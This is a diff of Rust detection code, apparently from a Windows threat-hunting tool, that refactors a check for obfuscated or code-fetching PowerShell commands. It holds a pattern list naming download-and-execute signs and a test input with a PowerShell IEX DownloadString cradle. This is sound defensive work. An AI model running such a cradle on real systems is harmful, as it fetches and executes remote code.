@@ -158,23 +158,15 @@ pub(crate) fn is_smbexec(line: &str) -> bool {
 
 /// A command that hides what it does, or brings its code along.
 pub(crate) fn hides(line: &str) -> bool {
-    const SIGNS: [&str; 12] = [
-        "frombase64string",
-        "-encodedcommand",
-        " -enc ",
-        " -ec ",
-        " -e jab",
-        "-w hidden",
-        "-windowstyle hidden",
-        "downloadstring",
-        "iex(",
-        "iex (",
-        "invoke-expression",
-        "gzipstream",
-    ];
-    let asked = Asked::of(line);
+    Asked::of(line).hides() || brings_code(line)
+}
+
+/// A command that fetches or unpacks the code that it runs.
+pub(crate) fn brings_code(line: &str) -> bool {
+    const SIGNS: [&str; 6] =
+        ["frombase64string", "downloadstring", "iex(", "iex (", "invoke-expression", "gzipstream"];
     let line = line.to_lowercase();
-    asked.hidden || asked.encoded || SIGNS.iter().any(|sign| line.contains(sign))
+    SIGNS.iter().any(|sign| line.contains(sign))
 }
 
 /// A service or task whose program is a command line for a shell: no product installs that.
@@ -202,6 +194,8 @@ mod tests {
         assert!(runs_a_shell(r#""C:\Windows\System32\cmd.exe" /c x"#));
         assert!(!runs_a_shell(r"C:\Program Files\Vendor\service.exe -k"));
         assert!(hides("powershell -nop -w hidden -c x") && hides("powershell -nop -wi 1 -c x"));
+        assert!(hides("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""));
+        assert!(!hides("tool.exe -w hidden -enc x"));
         assert_eq!(file_name(r"C:\Windows\System32\cmd.exe"), "cmd.exe");
     }
 }
